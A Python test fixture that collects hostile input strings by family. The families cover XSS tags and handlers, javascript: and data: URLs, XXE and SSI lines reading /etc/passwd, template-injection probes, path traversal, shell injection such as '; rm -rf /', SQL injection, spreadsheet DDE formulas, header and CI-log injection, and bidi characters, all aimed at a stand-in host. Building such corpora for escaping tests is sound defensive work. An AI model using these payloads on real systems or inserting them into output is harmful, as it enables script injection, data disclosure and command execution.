"""Text that would be markup, an address, a formula, a command or a control somewhere, in families by what it breaks.

Made for these tests. What a family varies is written once; `STRINGS` has every string once, in order.
"""

from itertools import product

HOST = "//hostile.invalid"
RUN = "alert(1)"

# ── Markup ────────────────────────────────────────────────

EVENTS = ["onload", "onerror", "onfocus", "onmouseover", "onclick", "ontoggle", "onbegin", "onanimationstart",
          "onpageshow", "onhashchange", "onbeforeprint", "onwheel", "onpointerenter", "oninput", "onfocusin"]

TAGS = [
    f"<script>{RUN}</script>", f"<SCRIPT SRC={HOST}/a.js></SCRIPT>", f"<scr\0ipt>{RUN}</scr\0ipt>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>", f"<script\n>{RUN}</script\t>", f"<script/x>{RUN}</script x>",
    f"<script type=module>{RUN}</script>", f"<script>{RUN}", f"</script><script>{RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<img src=x onerror={RUN}>", f"<img src=x onerror={RUN}//", f"<IMG/SRC=x/ONERROR={RUN}>",
    f"<img\x0csrc=x\x0conerror={RUN}>",
    f"<image src=x onerror={RUN}>", f"<img src='{HOST}/a.png'>", f"<img srcset='{HOST}/a.png 1x'>",
    f"<img src=`x`onerror={RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>", f"<iframe srcdoc='<script>{RUN}</script>'>", f"<iframe src={HOST}>",
    f"<object data=javascript:{RUN}>", f"<embed src=javascript:{RUN}>", f"<applet code={HOST}>",
    f"<frameset onload={RUN}>",
    f"<body onload={RUN}>", f"<html onclick={RUN}>", f"<head><base href={HOST}/></head>", f"<base href='{HOST}/'>",
    f"<link rel=stylesheet href={HOST}/a.css>", f"<link rel=prefetch href={HOST}>",
    f"<link rel=dns-prefetch href={HOST}>",
    f"<meta http-equiv=refresh content='0;url={HOST}'>", f"<meta http-equiv=refresh content='0;javascript:{RUN}'>",
    "<meta charset=utf-7>", "<meta http-equiv=Content-Security-Policy content=\"default-src *\">",
    f"<style>*{{background:url({HOST}/a.png)}}</style>", f"<style>@import '{HOST}/a.css'</style>",
    "<style>body{display:none}",
    f"<form action={HOST}><input name=a autofocus><button>甲", f"<button formaction=javascript:{RUN}>甲</button>",
    f"<input type=image src={HOST}/a.png>", f"<isindex type=image src=1 onerror={RUN}>", "<textarea>", "<plaintext>",
    "<xmp>", "<listing>",
    f"<video src={HOST}/a.mp4 autoplay>", f"<video><source onerror={RUN}></video>",
    f"<audio src={HOST}/a.mp3 autoplay>",
    f"<track src={HOST}>", f"<a href=javascript:{RUN}>甲</a>", f"<a href={HOST} ping={HOST}/p>甲</a>",
    f"<area href=javascript:{RUN}>",
    f"<table background={HOST}/a.png>", f"<td background=javascript:{RUN}>", "</td></tr></table>",
    "</p></div></main></body></html>",
    f"<details open ontoggle={RUN}>", f"<dialog open>甲", f"<select autofocus onfocus={RUN}>",
    f"<marquee onstart={RUN}>甲",
    f"<portal src={HOST}>", f"<custom-element id=x tabindex=1 onfocus={RUN}>", f"<x onclick={RUN}>甲</x>",
    f"<div style='x:expression({RUN})'>",
    f"<div popover id=p onbeforetoggle={RUN}><button popovertarget=p>", "<slot name=a>", "<template><p>甲</template>",
    f"<template shadowrootmode=open><script>{RUN}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<title><img src=x onerror={RUN}></title>", f"</title><img src=x onerror={RUN}>",
    f"</textarea><img src=x onerror={RUN}>",
    f"</style><img src=x onerror={RUN}>", f"</script><img src=x onerror={RUN}>",
    f"</noscript><img src=x onerror={RUN}>",
    f"</xmp><img src=x onerror={RUN}>", f"</iframe><img src=x onerror={RUN}>",
    f"</option></select><img src=x onerror={RUN}>",
    f"</desc></svg><img src=x onerror={RUN}>", "<", ">", "<<", "< script>", "<>", "</>", "<a", "<a ", "<a/", "</",
    "<!", "<?", "<=", "<1>",
    "<甲>", "&lt;script>", "a<b", "a<b>c", "1<2>1", "a</b", "＜script＞alert(1)＜/script＞", "﹤script﹥", "‹script›",
    "〈script〉",
]

COMMENTS = [
    "<!--", "-->", "--!>", "<!-->", "<!--->", "<!---->", "<!-- 甲 -->", "<!--<script>",
    f"<!--<script>{RUN}</script>-->",
    f"--><script>{RUN}</script>", f"--!><img src=x onerror={RUN}>", "<!-- -- --!>", "<!--[if IE]>",
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
    "<![CDATA[", "]]>", f"<![CDATA[<script>{RUN}</script>]]>", f"]]><script>{RUN}</script>", "<!DOCTYPE html>",
    "<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/passwd\">]>",
    "&b;", "<!ENTITY % c SYSTEM \"//hostile.invalid/a.dtd\"> %c;", "<?xml version=\"1.0\"?>",
    "<?xml-stylesheet href=\"//hostile.invalid/a.xsl\"?>",
    f"<?php {RUN} ?>", "<? 甲 ?>", "<%= 7*7 %>", "<!--#include virtual=\"/etc/passwd\"-->", "<!--#exec cmd=\"id\"-->",
    "<!-- { -->",
]

ENTITIES = [
    "&", "&&", "&amp;", "&amp;amp;", "&lt;", "&lt;b&gt;", "&LT", "&lt", "&#60;b&#62;", "&#x3c;b&#x3e;", "&#60b",
    "&#0;", "&#x0;", "&#128;", "&#xD800;",
    "&#x110000;", "&#xFFFFFFFFF;", "&#;", "&#x;", "&quot;", "&apos;", "&#34;", "&#39;", "&nbsp;", "&nbsp", "&notin;",
    "&not;in", "&copy", "&copy=1",
    "&colon;", "&Tab;", "&NewLine;", "&lpar;", "&ZeroWidthSpace;", "&nosuch;", "&#8238;", "&lbrace;&lbrace;",
    "%26lt%3B", "a&b=c&d", "?a=1&lt=2", "&\0;",
]

QUOTES = ['"', "'", "`", '">', "'>", '"/>', '" ', "' ", '"\n', "'\t", "\"'", "\"'`", "\\\"", "\\'", "&quot;", "&#39;",
    "“", "＂", "＇"]
BREAKOUTS = [f"{quote}{rest}" for quote, rest in product(QUOTES, [
    "", f"onfocus={RUN} autofocus x=", f"><script>{RUN}</script>", f"style=background:url({HOST}) "])]

HANDLERS = [f'" {event}={RUN} x="' for event in EVENTS] + [f"<b {event.upper()} = {RUN}>甲</b>" for event in EVENTS]

FOREIGN = [
    f"<svg onload={RUN}>", f"<svg/onload={RUN}>", f"<svg><a xlink:href=javascript:{RUN}><text>甲</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x>", f"<svg><set attributeName=href to=javascript:{RUN}>",
    f"<svg><use href={HOST}/a.svg#a>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'/>#a\">",
    f"<svg><image href={HOST}/a.png>",
    f"<svg><foreignObject><script>{RUN}</script></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>", f"<svg><desc></desc></svg><img src=x onerror={RUN}>",
    "<svg><![CDATA[<b>]]></svg>",
    f"</svg><script>{RUN}</script>", "</rect>", "\"/><rect width=\"9", "</text></svg><b>",
    f"<math href=javascript:{RUN}>甲</math>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={RUN}></style>",
    f"<math><annotation-xml encoding='text/html'><img src=x onerror={RUN}>",
    f"<math><mi><style></mi><img src=x onerror={RUN}>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<svg></p><style><a id='</style><img src=x onerror={RUN}>'>",
    f"<noembed><p title='</noembed><img src=x onerror={RUN}>'>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>", f"<p title='`onmouseover={RUN}'>",
    f"<a id='--><img src=x onerror={RUN}>'>",
    f"<b title='</title><img src=x onerror={RUN}>'>", f"<table><td><svg><desc><td><img src=x onerror={RUN}>",
    "<colgroup><col><b>",
    f"<option><style></option></select><img src=x onerror={RUN}></style>",
    "<svg viewBox=\"0 0 1 1\"><path d=\"M0\"/></svg>",
    "<?xml version='1.0'?><svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "<xss xmlns:a=\"//hostile.invalid\" a:b=1>",
]

# ── Addresses ─────────────────────────────────────────────

SCHEMES = ["javascript", "vbscript", "data", "livescript", "view-source", "file", "blob", "filesystem", "jar", "feed"]
JAVASCRIPT = [
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
    "java\rscript:alert(1)", "java\r\nscript:alert(1)",
    "\tjavascript:alert(1)", "\njavascript:alert(1)", " javascript:alert(1)", "\x01javascript:alert(1)",
    "\x1fjavascript:alert(1)", "javascript\t:alert(1)",
    "javascript&colon;alert(1)", "javascript&#58;alert(1)", "javascript&#x3a;alert(1)", "java&Tab;script:alert(1)",
    "java&NewLine;script:alert(1)",
    "&#106;avascript:alert(1)", "&#x6A;avascript:alert(1)", "&#0000106avascript:alert(1)", "javascript%3Aalert(1)",
    "%6aavascript:alert(1)",
    "javascript:alert%281%29", "javascript://%0aalert(1)", "javascript://hostile.invalid/%0D%0Aalert(1)",
    "javascript:/*-->*/alert(1)",
    "javascript:void(0)", "javascript:`${alert(1)}`", "javascript:'<script>alert(1)</script>'", "javascript：alert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "java\u00adscript:alert(1)", "java\u200bscript:alert(1)", "\u2028javascript:alert(1)",
    "\ufeffjavascript:alert(1)", "java\\script:alert(1)",
    "javascript:eval(atob('YWxlcnQoMSk='))", "jav&#x0A;ascript:alert(1)", "javascript:confirm`1`",
    "javascript:document.write(1)",
]
DATA = [
    "data:text/html,<script>alert(1)</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "DATA:text/html,alert", "data:,alert(1)",
    "data:image/svg+xml,<svg onload=alert(1)>", "data:text/javascript,alert(1)", "data:application/xhtml+xml,<x/>",
    "da\tta:text/html,<b>",
]
PATHS = [
    HOST, f"{HOST}/a?b#c", "\\\\hostile.invalid\\a", "/\\hostile.invalid", "\\/hostile.invalid", "///hostile.invalid",
    "https:hostile.invalid", "https:///hostile.invalid",
    "https:\\\\hostile.invalid", "http://hostile.invalid/a.png", "https://hostile.invalid@example.com",
    "https://example.com@hostile.invalid/",
    "https://example.com:443@hostile.invalid", "https://hostile.invalid\\@example.com", "https://[::1]/",
    "https://2130706433/", "https://0x7f.1/",
    "https://hostile。invalid/", "https://ｈｏｓｔｉｌｅ.invalid", "https://xn--hostile-9d1i.invalid",
    "ftp://hostile.invalid/a", "wss://hostile.invalid/a",
    "../", "../../../../etc/passwd", "..\\..\\windows", "%2e%2e/", "%2e%2e%2f%2e%2e%2f", "..%2f", "..%5c", "..%252f",
    "%252e%252e/", "..%c0%af", "....//", "..;/",
    "./.", "/etc/passwd", "C:\\a", "file:///etc/passwd", "\\\\?\\C:\\a", "CON", "NUL", "a:b", "a?b", "a#b", "a%",
    "a%zz", "a%00b", "%00", "?", "#", "#top", "?q=<b>", "index.html",
    "index.html?a=1", ".htaccess", "~root", "*", "a|b", "a;b", "$HOME", "$(id)", "`id`", "; rm -rf /", "| id",
    "&& id", "> a",
]

# ── Data in scripts and data files ────────────────────────

JSON = [
    "\u2028", "\u2029", "a\u2028b", "\u2028alert(1)\u2029", "\\u2028", "\\", "\\\\", "\\\"", "\\n",
    "\\u003cscript\\u003e", "\\ud800", "\\uD83D", "\\x3cscript\\x3e",
    '"}', '"}]}', '","标题":"乙', '{"__proto__":{"a":1}}', "__proto__", "constructor", "[object Object]", "null", "true",
    "NaN", "undefined", "1e999", "-0",
    '"@type":"Person"', '{"@context":"https://schema.org"}', "</script><!--", "<!--<script>\"", "</ScRiPt >",
    "</script\x0c>", "//--></script>", "*/alert(1)/*",
    "'-alert(1)-'", '"-alert(1)-"', "';alert(1)//", '";alert(1)//', "\\';alert(1)//", "${alert(1)}", "`${alert(1)}`",
    "\n;alert(1)//", "\u2028;alert(1)//", "]]>alert(1)",
]

TEMPLATES = [
    "{{ 7*7 }}", "{{7*7}}", "{{", "}}", "{%", "%}", "{#", "#}", "{{ 站点.名称 }}", "{{ 件.标题|safe }}",
    "{% include 'base.html' %}", "{% raw %}", "{% endraw %}",
    "{% raw %}{{ 1 }}{% endraw %}", "{% for a in b %}", "{% endfor %}", "{% if true %}甲{% endif %}", "{% block 正文 %}",
    "{% endblock %}", "{% extends 'a' %}",
    "{% import 'os' as os %}", "{# 说明 #}", "{# {{ 1 }} #}", "{{ '{{' }}", "{{ \"}}\" }}", "{{ {{ 1 }} }}",
    "{%- set a = 1 -%}", "{{- 1 -}}", "{{ a|default('<b>') }}",
    "{{ ''.__class__.__mro__ }}", "{{ config }}", "{{ self }}", "{{ super() }}", "{{ loop.index }}", "${7*7}",
    "#{7*7}", "<%= 7*7 %>", "${{7*7}}", "@(7*7)", "[[${7*7}]]", "{7*7}",
    "{{{7*7}}}", "{{ 1", "{% 1", "{# 1", "1 }}", "%}{{", "}}{{", "{ { 1 } }", "{\u200b{ 1 }}", "｛｛ 1 ｝｝", "{{\n1\n}}",
]

# ── Markdown ──────────────────────────────────────────────

MARKDOWN = [
    "[甲](javascript:alert(1))", "[甲](JaVaScRiPt:alert(1))", "[甲](<javascript:alert(1)>)",
    "[甲](java&#x09;script:alert(1))", "[甲](javascript&colon;alert(1))",
    "[甲](&#106;avascript:alert(1))", "[甲](\\javascript:alert(1))", "[甲](vbscript:a)", "[甲](data:text/html,<b>)",
    "[甲](data:text/html;base64,PGI+)",
    "[甲](file:///etc/passwd)", "[甲](https://hostile.invalid \"\\\" onclick=alert(1) x=\")",
    "[甲](https://hostile.invalid '<b>')", "[甲](https://hostile.invalid/\"onclick=alert(1))",
    "[甲](https://hostile.invalid/<b>)", "[甲](//hostile.invalid)", "[甲](\\\\hostile.invalid)",
    "[甲](/\\hostile.invalid)", "[甲](../../../../etc/passwd)", "[甲](%2e%2e/%2e%2e/site.yaml)",
    "[甲](#\"onclick=alert(1))",
    "[甲](?a)", "[甲]()", "[](https://hostile.invalid)", "[甲](https://hostile.invalid",
    "![甲](https://hostile.invalid/a.png)", "![甲](http://hostile.invalid/a.png)",
    "![甲](//hostile.invalid/a.png)", "![甲](javascript:alert(1))", "![甲](data:image/svg+xml,<svg/onload=alert(1)>)",
    "![甲\" onerror=\"alert(1)](https://hostile.invalid/a.png)",
    "![甲](x\" onerror=alert(1))", "![<b>](https://hostile.invalid/a.png)",
    "[![甲](https://hostile.invalid/a.png)](https://hostile.invalid)", "![]()",
    "![甲][乙]\n\n[乙]: https://hostile.invalid/a.png",
    "<https://hostile.invalid>", "<javascript:alert(1)>", "<JAVASCRIPT:alert(1)>", "<vbscript:a>",
    "<data:text/html,a>", "<mailto:a@hostile.invalid>", "<a@hostile.invalid>", "<ftp://hostile.invalid>",
    "https://hostile.invalid", "www.hostile.invalid", "[甲]: javascript:alert(1)\n\n[甲]",
    "[甲]: https://hostile.invalid \"<b>\"\n\n[甲]", "[甲][甲]\n\n[甲]: <javascript:alert(1)> '甲'", "[甲]:\n",
    "[^甲]\n\n[^甲]: <b>注</b>", "[^甲]\n\n[^甲]: [^甲]", "[^<b>]\n\n[^<b>]: 注",
    "[^a\" onclick=alert(1)]\n\n[^a\" onclick=alert(1)]: 注", "| a | b |\n|---|---|\n| <b> | `|` |",
    "| a |\n|:--|\n| \\| |",
    "|a|\n|-|", "# <b>甲</b>", "# 甲 {#x onclick=alert(1)}", "# \" onclick=alert(1) x=\"", "# javascript:alert(1)",
    "###### 甲", "甲\n===", "甲\n---", "---", "***", "___", "- - -", "> <b>", "> > > > > 甲", "- <b>",
    "1. 甲\n9999999999. 乙",
    "999999999. 甲", "- [ ] <b>", "- [x] 甲", "    <b>代码</b>", "\t<b>", "```\n<b>\n```",
    "```\" onclick=alert(1)\n甲\n```", "```<b>\n甲\n```", "~~~ js\nalert(1)", "`<b>`", "``<b>`", "`", "**<b>**", "*甲*",
    "_甲_", "**", "~~甲~~", "\\<b>", "\\", "甲  \n乙",
    "甲\\\n乙", "<b>甲</b>", "<b\n>", "<br>", "<br/>", "<div>\n\n**甲**\n\n</div>", "<script>\n\nalert(1)\n\n</script>",
    "<style>\n\n*{}\n\n</style>", "<pre>\n\n甲\n\n</pre>", "<!-- 甲\n\n乙 -->", "<?php\n\n?>", "<!A\n\n>",
    "<![CDATA[\n\n]]>",
    "</div>", "<x-y>", "<a href=\"https://hostile.invalid\">", "[<b>](https://hostile.invalid)",
    "[`<b>`](https://hostile.invalid)", "&lt;b&gt;", "&#60;b&#62;", "\ufdd00\ufdd1", "\ufdd0" + "9" * 20 + "\ufdd1",
    "---\n标题: 乙\n---", "...", "\ufeff---",
    "{% include \"partials/row.html\" %}", "{{ \"<b>\"|safe }}", "[甲](https://hostile.invalid/{{ 1 }})",
    "[" * 40 + "甲" + "]" * 40, "*" * 60, "`" * 60, "> " * 40 + "甲", "![" * 30,
]

# ── Spreadsheets ──────────────────────────────────────────

LEADS = ["", " ", "\t", "\r", "\n", '"', "'", "\u3000", "\u200b", "\ufeff", ";", ","]
FORMULAS = [f"{lead}{sign}1+1" for lead, sign in product(LEADS, "=+-@＝＋－＠")] + [
    "=HYPERLINK(\"https://hostile.invalid\",\"甲\")", "=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0", "=WEBSERVICE(\"https://hostile.invalid\")",
    "=IMPORTXML(\"https://hostile.invalid\",\"//a\")", "=IMAGE(\"https://hostile.invalid/a.png\")",
    "=DDE(\"cmd\";\"/C calc\";\"a\")", "DDE (\"cmd\";\"/C calc\")", "=2+5+cmd|' /C calc'!A0", "%0A=1+1", "|calc",
    "%calc",
    "=", "+", "-", "@", "＝", "＋", "－", "＠", "=\"a\"", "-1", "+1", "-1.5", "- 甲", "-甲", "@甲", "=甲", "'=1+1", "''=1+1",
    '"=1+1"', '"",=1+1', "甲\n=1+1", "甲\r\n=1+1", "甲,=1+1", "甲;=1+1", "甲\t=1+1", "={1,2}", "=A1:A9", "_x0041_",
    "_x000D_", "_x005F_x0041_",
    "1/2", "1-2", "00123", "1E5", "２０２４", "1,234", "TRUE", "#REF!", "#N/A", "sep=;", "ID;PWXL;N;E", "\u2212 1",
    "\uff0d", "٪1",
]

# ── Characters ────────────────────────────────────────────

BIDI = [chr(code) for code in [*range(0x202A, 0x202F), *range(0x2066, 0x206A), 0x200E, 0x200F, 0x061C]]
UNSEEN = [chr(code) for code in [0x00AD, 0x034F, 0x115F, 0x180E, 0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x2064,
    0x206A, 0x3164, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFB, 0xFFFC, 0xFFFD, 0xE0001, 0xE0041, 0xE0100]]
CONTROLS = [chr(code) for code in [*range(0x20), 0x7F, *range(0x80, 0xA0)]]
CHARACTERS = (
    [f"甲{mark}乙" for mark in BIDI + UNSEEN] + ["\u202egnp.tiaf", "\u202e</b>\u202c", "\u2067=1+1\u2069",
    "a\u202e\"'<b>", "\u200b\u200b", "\u2060<b>"]
    + [f"甲{control}乙" for control in CONTROLS]
    + ["раураl", "ехаmрlе.com", "ɡov.cn", "ｇｏｖ．ｃｎ", "gov。cn", "ℊ𝕠𝓿.𝖈𝖓", "①②③", "﷽", "ﬁ", "ß", "İ", "ı", "ſcript", "K",
    "\u0130<b>", "甲\u0338", "<\u0338b>", ">\u0338", "\"\u0301", "'\u0301", "&\u0301lt;", "=\u03381+1", "\\\u0301\"",
       "[\u0301甲](javascript:alert(1))", "{\u0301{ 1 }}", "e" + "\u0301" * 200, "Z" + "\u0351\u0321\u0489" * 60,
       "\u0301", "\u20dd", "👨‍👩‍👧‍👦" * 20, "🇨🇳🇨", "🏴\U000e0067\U000e007f", "\ufdd0", "\ufdef", "\ufffe", "\uffff",
       "\U0001ffff", "\U0010ffff", "\ue000", "\U000f0000",
       "𬭎䶮㼆", "ｱｲｳ", "ก็็็็็็", "لُلُصّبُلُلصّبُررً ॣ ॣh ॣ ॣ 冗", "\u2f00\u2ff0", "长" * 500, "<" * 500, "\"" * 500,
       "A" * 3000, "a " * 400, "\u3000甲\u3000", "\u00a0甲\u00a0", "甲\u00a0乙", "甲\u3000乙", "甲  乙", "甲\u2003乙",
       "\u1680甲", "甲\u0085乙"]
)

# ── Terminals, headers, logs, queries ─────────────────────

COMMANDS = [
    "\x1b[31m红", "\x1b[2J", "\x1b]0;标题\x07", "\x1b]8;;https://hostile.invalid\x1b\\甲\x1b]8;;\x1b\\", "\x1bP+q\x1b\\",
    "\x1bc", "\x9b31m红", "\x9d0;甲\x9c", "甲\x08\x08乙", "甲\r乙", "\x07", "\x1b[?1049h", "\x0e\x0f", "\x1b[6n", "\\e[31m",
    "\\033[31m", "^[[31m",
    "甲\r\nSet-Cookie: a=1", "甲\r\n\r\n<b>", "甲\nLocation: //hostile.invalid", "%0d%0aSet-Cookie:%20a=1",
    "\r\nHTTP/1.1 200 OK", "嘊嘍Set-Cookie: a", "From: a@hostile.invalid", "Content-Type: text/html", "\r\n.\r\n",
    "To: <a@hostile.invalid>\r\nBcc: b",
    "::error::甲", "甲\n::error::乙", "甲\r::error::乙", "甲\r\n::error file=a::乙", "::set-output name=a::b",
    "::stop-commands::a", "::add-mask::a", "##[error]甲", "##vso[task.complete]甲", "甲%0A::error::乙", "::", "a::b",
    "a,line=1::b", "%25%0A",
    "甲\n错误 a：乙", "甲\n警告 a：乙", "甲\n  办法：乙", "' OR '1'='1", "'; DROP TABLE a;--", "1;--", "\" or \"\"=\"", "*)(uid=*",
    "%s%n%d", "%99999$s", "{0}", "$1\\1", "\\0", "(a+)+$", "../%00.md",
    "---\n编号: \"9999\"\n---", "- 甲: 乙", "甲: 乙", "!!python/object:a", "&a", "*a", "<<: *a", "| 甲", "> 甲", "? 甲",
    "%YAML 1.2", "甲 # 乙", "'", '"', "~", "[]", "{}", "yes", "0x1F", "1_000", "2024-05-20", "12:30:45", "- ", "@甲",
    "`甲`",
]

FAMILIES = {
    "tags": TAGS, "comments": COMMENTS, "entities": ENTITIES, "breakouts": BREAKOUTS, "handlers": HANDLERS,
    "foreign": FOREIGN,
    "schemes": [f"{scheme}:alert(1)" for scheme in SCHEMES] + JAVASCRIPT + DATA, "paths": PATHS, "json": JSON,
    "templates": TEMPLATES, "markdown": MARKDOWN,
    "formulas": FORMULAS, "characters": CHARACTERS, "commands": COMMANDS,
}
STRINGS = list(dict.fromkeys(text for family in FAMILIES.values() for text in family))
